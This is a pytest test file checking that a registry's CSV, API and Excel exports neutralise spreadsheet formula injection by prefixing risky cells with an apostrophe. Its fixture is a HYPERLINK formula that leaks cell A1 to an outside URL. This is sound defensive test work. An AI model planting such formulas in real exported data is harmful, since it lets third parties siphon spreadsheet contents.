"""No cell of a CSV or spreadsheet the registry writes starts a formula, whichever way it is made."""

import csv
import io
import zipfile

import openpyxl
import pytest
import tablib
from django.urls import reverse

from bodies.models import Body, BodyKind, BodyLevel
from bodies.resources import BodyResource
from governance.core.spreadsheets import neutralise, restore

FORMULA = '=HYPERLINK("https://example.se/?q="&A1,"Klicka")'
CSV_FORMAT, XLSX_FORMAT = "0", "1"


@pytest.fixture
def trap(db):
    return Body.objects.create(
        name="Formelnätverket",
        kind=BodyKind.NETWORK,
        level=BodyLevel.COUNTY,
        mandate=FORMULA,
        composition="-2+3",
    )


@pytest.mark.parametrize(
    "value, written",
    [
        (FORMULA, "'" + FORMULA),
        ("+46 31 123 45", "'+46 31 123 45"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("-2+3", "'-2+3"),
        ("\t=1", "'\t=1"),
        ("-12.5", "-12.5"),
        ("+3", "+3"),
        ("Vanlig text", "Vanlig text"),
        ("", ""),
        (-5, -5),
        (None, None),
    ],
)
def test_the_rule(value, written):
    assert neutralise(value) == written
    assert restore(neutralise(value)) == value


def test_an_apostrophe_of_ones_own_is_kept_on_import():
    assert restore("'Citat'") == "'Citat'"


def test_bulk_csv_under_data(client, trap):
    response = client.get("/data/samverkansregistret-csv.zip")
    archive = zipfile.ZipFile(io.BytesIO(response.content))
    rows = list(csv.DictReader(io.StringIO(archive.read("bodies.body.csv").decode())))
    row = next(r for r in rows if r["slug"] == trap.slug)
    assert row["mandate"] == "'" + FORMULA
    assert row["composition"] == "'-2+3"


def test_api_csv(client, trap):
    text = client.get("/api/v1/bodies/?format=csv&page_size=200&q=Formelnätverket").content
    rows = list(csv.DictReader(io.StringIO(text.decode("utf-8-sig"))))
    row = next(r for r in rows if r["slug"] == trap.slug)
    assert row["mandate"] == "'" + FORMULA


def _admin_export(client, fmt):
    return client.post(
        reverse("admin:bodies_body_export"),
        {
            "format": fmt,
            "resource": "0",
            **{f"bodyresource_{f}": "on" for f in ["slug", "mandate", "composition", "version"]},
        },
    )


def test_admin_csv_export(client, superuser, trap):
    client.force_login(superuser)
    response = _admin_export(client, CSV_FORMAT)
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    row = next(r for r in rows if r["slug"] == trap.slug)
    assert (row["mandate"], row["composition"]) == ("'" + FORMULA, "'-2+3")


def test_admin_excel_export_holds_text_not_formulas(client, superuser, trap):
    client.force_login(superuser)
    response = _admin_export(client, XLSX_FORMAT)
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    header = list(rows[0])
    row = next(r for r in rows if r[header.index("slug")] == trap.slug)
    assert row[header.index("mandate")] == "'" + FORMULA
    cells = [c for c in sheet.iter_rows() for c in c]
    assert not any(c.data_type == "f" for c in cells)


def test_an_exported_file_imports_back_unchanged(superuser, trap):
    exported = BodyResource().export(queryset=Body.objects.filter(pk=trap.pk))
    assert exported.dict[0]["mandate"] == "'" + FORMULA
    dataset = tablib.Dataset().load(exported.export("csv"), format="csv")
    result = BodyResource().import_data(dataset, dry_run=False, user=superuser)
    assert not (result.has_errors() or result.has_validation_errors())
    trap.refresh_from_db()
    assert (trap.mandate, trap.composition) == (FORMULA, "-2+3")
